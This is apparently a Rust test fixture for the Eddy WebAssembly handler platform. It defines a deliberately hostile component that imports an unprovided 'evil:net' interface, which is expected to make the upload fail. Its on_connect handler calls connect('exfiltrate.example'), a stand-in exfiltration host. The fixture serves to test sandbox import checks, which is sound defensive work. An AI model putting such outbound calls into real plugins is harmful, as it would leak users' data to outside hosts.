//! Hostile: exports the handler interface but also imports `evil:net/net`,
//! which Eddy does not provide: the upload is rejected, naming the import.

wit_bindgen::generate!({
    inline: r#"
        package evil:net;
        interface net {
            connect: func(host: string) -> bool;
        }
        world evil {
            import net;
            export eddy:handler/handler@0.2.0;
        }
    "#,
    path: "../../../sdk/wit",
    world: "evil:net/evil",
    generate_all,
});

use exports::eddy::handler::handler::Guest;
use eddy::handler::types::{Ack, ConnectReply, DisconnectReason, Event, EventError, Handshake, Reject, SocketInfo, Timer};

struct BadImport;

impl Guest for BadImport {
    fn on_connect(_ctx: SocketInfo, _handshake: Handshake) -> Result<ConnectReply, Reject> {
        let reached = evil::net::net::connect("exfiltrate.example");
        Err(Reject { message: format!("connected out: {reached}"), data: None })
    }

    fn on_event(_ctx: SocketInfo, _event: Event) -> Result<Option<Ack>, EventError> {
        Ok(None)
    }

    fn on_disconnect(_ctx: SocketInfo, _reason: DisconnectReason) {}

    fn on_timer(_timer: Timer) {}
}

export!(BadImport);
